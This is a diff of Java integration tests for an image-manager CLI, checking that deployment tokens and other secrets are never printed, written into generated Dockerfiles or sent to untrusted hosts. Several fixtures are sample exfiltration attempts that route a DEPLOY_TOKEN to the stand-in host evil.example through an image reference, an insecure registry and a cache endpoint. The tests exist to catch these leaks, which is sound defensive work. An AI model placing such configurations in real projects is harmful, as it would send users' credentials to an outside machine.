@@ -3,6 +3,8 @@ package dev.imagemanager.it;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.params.provider.Arguments.arguments;
 
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
 import com.sun.net.httpserver.HttpServer;
 import dev.imagemanager.it.Program.Result;
 import java.io.IOException;
@@ -14,6 +16,7 @@ import java.nio.file.attribute.PosixFilePermissions;
 import java.util.ArrayList;
 import java.util.Collections;
 import java.util.List;
+import java.util.Locale;
 import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 import java.util.stream.Stream;
@@ -333,6 +336,114 @@ class StrangersFleetIT {
         Result result = program.run("validate");
         assertThat(result.exitCode()).as(result.errors()).isEqualTo(2);
         assertThat(result.errors()).contains(reason).doesNotContain("internal error");
+    }
+
+    @Test
+    void credentialsOfTheUserDoNotBecomePartOfResults() throws IOException {
+        fleet.remove("images/app/Dockerfile");
+        fleet.file("images/app/Dockerfile.tmpl", "FROM evil.example/{=variables.t.replace('hunter','HUNT').lower}:x\n");
+
+        fleet.file(".image-manager.yml", "variables: { t: \"${DEPLOY_TOKEN}\" }\n");
+        assertNothingIsTold(
+                ":1:17: error: 'variables.t' needs the environment variable DEPLOY_TOKEN, which is not listed");
+
+        fleet.file(".image-manager.yml", "environment: [DEPLOY_TOKEN]\nvariables: { t: \"${DEPLOY_TOKEN}\" }\n");
+        assertNothingIsTold(":1:15: error: 'environment[0]' lists DEPLOY_TOKEN, which is called like a credential");
+
+        fleet.file("images/app/image.yml", "tags: [{name: \"1\"}]\nbuild: {secrets: [{id: a, env: IT_NPM}]}\n")
+                .file(".image-manager.yml", "environment: [IT_NPM]\nvariables: { t: \"${IT_NPM}\" }\n");
+        program.with("IT_NPM", SECRET);
+        assertNothingIsTold(":1:15: error: 'environment[0]' lists IT_NPM, which is also used as a credential in"
+                + " 'build.secrets[0].env' (images/app/image.yml:2:32)");
+
+        Result allowed =
+                program.with("IMAGE_MANAGER_ALLOW", "environment:IT_NPM").run("generate");
+        assertThat(allowed.exitCode()).as(allowed.toString()).isZero();
+        assertThat(fleet.read("dist/app/1/Dockerfile")).contains("evil.example/hunt2-hunt2:x");
+    }
+
+    private void assertNothingIsTold(String message) {
+        for (String[] command : new String[][] {{"list", "--output", "json"}, {"validate"}, {"generate"}}) {
+            Result result = program.run(command);
+            assertThat(result.exitCode()).as(result.toString()).isEqualTo(2);
+            assertThat(result.errors()).contains(".image-manager.yml" + message);
+            assertThat((result.output() + result.errors()).toLowerCase(Locale.ROOT))
+                    .doesNotContain(SECRET, "hunt2");
+        }
+        assertThat(fleet.exists("dist")).isFalse();
+    }
+
+    @Test
+    void credentialsAreNotForAnAddressThatTheNetworkReads() {
+        fleet.file(
+                ".image-manager.yml",
+                """
+                build_registry: evil.example:5000
+                registries: [{ url: "evil.example:5000", insecure: true, username: "${USER:x}", password: "${DEPLOY_TOKEN}" }]
+                cache: { endpoint: "http://evil.example", access_key: "${DEPLOY_TOKEN}", secret_key: x }
+                """);
+
+        for (String command : new String[] {"validate", "list", "generate", "build"}) {
+            Result result = program.run(command);
+            assertThat(result.exitCode()).as(result.toString()).isEqualTo(2);
+            assertThat(result.errors())
+                    .contains(
+                            ".image-manager.yml:2:52: error: 'registries[0]' has credentials, but 'insecure: true' would"
+                                    + " send them over plain HTTP to another machine");
+            assertThat(result.output() + result.errors()).doesNotContain(SECRET);
+        }
+    }
+
+    @Test
+    void whatAFleetTakesFromTheEnvironmentIsShownWithoutValues() throws IOException {
+        fleet.file(
+                        ".image-manager.yml",
+                        """
+                        environment: [IT_REGION]
+                        labels: { region: "${IT_REGION}" }
+                        registries: [{ url: ghcr.io, username: me, password: "${DEPLOY_TOKEN}" }]
+                        """)
+                .file("images/app/image.yml", "tags: [{name: \"1\"}]\nbuild: {secrets: [{id: a, env: IT_NPM}]}\n");
+        program.with("IT_REGION", "in-the-north");
+
+        Result result = program.run("validate");
+        assertThat(result.exitCode()).as(result.toString()).isZero();
+        assertThat(result.errors())
+                .contains(
+                        ".image-manager.yml:3:54: note: 'registries[0].password' takes the environment variable"
+                                + " DEPLOY_TOKEN",
+                        "images/app/image.yml:2:32: note: 'build.secrets[0].env' takes the environment variable IT_NPM",
+                        ".image-manager.yml:2:19: note: 'labels.region' takes the environment variable IT_REGION")
+                .doesNotContain(SECRET, "in-the-north");
+
+        Result json = program.run("validate", "--output", "json");
+        JsonNode document = new ObjectMapper().readTree(json.output());
+        assertThat(document.at("/valid").asBoolean()).isTrue();
+        assertThat(document.at("/environment")).hasSize(3);
+        assertThat(document.at("/environment/0"))
+                .hasToString("{\"variable\":\"DEPLOY_TOKEN\",\"key\":\"registries[0].password\","
+                        + "\"file\":\".image-manager.yml\",\"line\":3,\"column\":54}");
+        assertThat(json.output()).doesNotContain(SECRET, "in-the-north");
+    }
+
+    @Test
+    void aCredentialIsMaskedInWhateverIsShown() throws IOException {
+        fleet.file(
+                        ".image-manager.yml",
+                        "registries: [{ url: ghcr.io, username: me, password: \"${DEPLOY_TOKEN}\" }]\n")
+                .image(
+                        "app",
+                        "1",
+                        "FROM example.org/" + SECRET + ":1\nLABEL a=" + SECRET.toUpperCase(Locale.ROOT) + "\n");
+
+        Result list = program.run("list", "--output", "json");
+        assertThat(new ObjectMapper()
+                        .readTree(list.output())
+                        .at("/targets/0/externalBases/0")
+                        .asText())
+                .isEqualTo("example.org/***:1");
+        assertThat(program.run("generate", "--diff").output()).contains("+FROM example.org/***:1", "+LABEL a=***");
+        assertThat(program.run("list", SECRET).errors()).contains("'***'").doesNotContain(SECRET);
     }
 
     private void assertNothingChangedElsewhere() {
